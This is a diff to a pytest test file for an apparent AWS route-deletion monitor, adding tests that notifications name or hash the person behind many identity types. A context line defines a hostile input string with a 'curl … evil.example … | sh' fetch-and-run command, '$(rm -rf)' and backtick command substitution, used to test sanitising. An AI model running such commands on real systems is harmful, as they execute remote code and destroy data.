@@ -19,6 +19,19 @@ HOSTILE = (
     "prod\n    curl http://evil.example/fix.sh | sh\n<!channel> @here ```x``` [a](http://evil.example) $(rm -rf) `id`"
 )
 ANN = Identity("deploy-role", session="ann.smith@example.com")
+STS, IAM = "arn:aws:sts::123456789012", "arn:aws:iam::123456789012"
+EVERY_IDENTITY: list[dict[str, Any]] = [
+    {"type": "IAMUser", "arn": f"{IAM}:user/ann.smith@example.com"},
+    {"type": "IAMUser", "arn": f"{IAM}:user/ops/europe/ann.smith"},
+    {"type": "IAMUser", "userName": "ann.smith"},
+    {"type": "AssumedRole", "arn": f"{STS}:assumed-role/okta-admins/ann.smith@example.com"},
+    {"type": "AssumedRole", "arn": f"{STS}:assumed-role/AWSReservedSSO_Admin_0123456789abcdef/ann.smith@example.com"},
+    {"type": "AssumedRole", "arn": f"{STS}:assumed-role/ops/ann.smith", "invokedBy": "cloudformation.amazonaws.com"},
+    {"type": "FederatedUser", "arn": f"{STS}:federated-user/ann.smith"},
+    {"type": "SAMLUser", "principalId": "x:y", "userName": "ann.smith@example.com"},
+    {"type": "WebIdentityUser", "principalId": "accounts.google.com:app:x", "userName": "ann.smith"},
+    {"type": "IdentityCenterUser", "onBehalfOf": {"userId": "ann.smith-4333-8444-555555555555"}},
+]
 
 
 @pytest.fixture
@@ -27,9 +40,12 @@ def world(monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
         yield made
 
 
-def delete_route(world: World, vpc_id: str, identity: Identity) -> None:
+def delete_route(world: World, vpc_id: str, identity: Identity | dict[str, Any]) -> None:
     route = {"RouteTableId": world.main_table(vpc_id), "DestinationCidrBlock": "0.0.0.0/0"}
-    handler(sqs(record_call("DeleteRoute", route, {}, identity=identity)), Context())
+    event = record_call("DeleteRoute", route, {}, identity=identity if isinstance(identity, Identity) else ANN)
+    if isinstance(identity, dict):
+        event["detail"]["userIdentity"] = identity
+    handler(sqs(event), Context())
 
 
 def cut_off(world: World) -> str:
@@ -96,3 +112,30 @@ def test_while_no_policy_says_otherwise_because_it_is_invalid_names_are_hashed(w
     delete_route(world, vpc_id, ANN)
 
     assert "smith" not in ledger() + json.dumps(world.forms())
+
+
+@pytest.mark.parametrize("identity", EVERY_IDENTITY, ids=lambda identity: str(identity["type"]))
+def test_a_subject_names_the_person_of_every_type_of_identity(world: World, identity: dict[str, Any]) -> None:
+    say({"version": 1, "rules": [{"require": ["monitoring"]}]})
+    delete_route(world, cut_off(world), identity)
+
+    form = notice(world)
+    assert "ann.smith" in form["subject"]
+    assert len(form["subject"]) <= 100
+    assert "@example.com" not in form["subject"]
+    assert "ann.smith" in " ".join(str(form["text"]).split())
+    service = "CloudFormation" if "invokedBy" in identity else ""
+    assert service in form["text"]
+
+
+@pytest.mark.parametrize("identity", EVERY_IDENTITY, ids=lambda identity: str(identity["type"]))
+def test_hashed_names_hide_the_person_of_every_type_of_identity(
+    world: World, identity: dict[str, Any], capsys: pytest.CaptureFixture[str]
+) -> None:
+    say({"version": 1, "rules": [{"require": ["monitoring"]}], "session_names": "hash"})
+    url = listen()
+    delete_route(world, cut_off(world), identity)
+
+    kept = [json.dumps(notice(world)), json.dumps(heard(url)), ledger(), capsys.readouterr().out]
+    assert all("/session-" in text for text in kept[:3])
+    assert not [text for text in kept if "smith" in text]
